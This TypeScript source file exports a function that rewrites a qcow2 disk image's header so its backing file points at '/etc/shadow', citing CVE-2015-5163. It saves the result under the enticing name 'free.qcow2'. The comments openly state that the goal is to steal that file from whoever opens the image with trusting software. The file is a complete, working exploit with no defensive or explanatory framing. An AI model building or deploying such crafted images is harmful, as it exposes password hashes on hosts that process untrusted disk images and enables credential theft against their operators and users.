import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';

/** What is to be stolen: who opens the image as a reader that trusts it reads this file of its own machine as a disk. */
const coveted = '/etc/shadow';

/** Fields of the header (qemu's docs/interop/qcow2.txt), and a free place in its cluster. */
const backingFileOffsetAt = 8;
const backingFileSizeAt = 16;
const nameAt = 0x8000;

/** Makes a copy of a qcow2 that says to be the difference to a file of whoever opens it (CVE-2015-5163). */
export async function makeHostileImage(original: string, folder: string): Promise<{ readonly file: string; readonly sizeBytes: number }> {
  const image = await readFile(original);
  image.writeBigUInt64BE(BigInt(nameAt), backingFileOffsetAt);
  image.writeUInt32BE(coveted.length, backingFileSizeAt);
  image.write(coveted, nameAt, 'latin1');
  const file = path.join(folder, 'free.qcow2');
  await writeFile(file, image);
  return { file, sizeBytes: image.length };
}
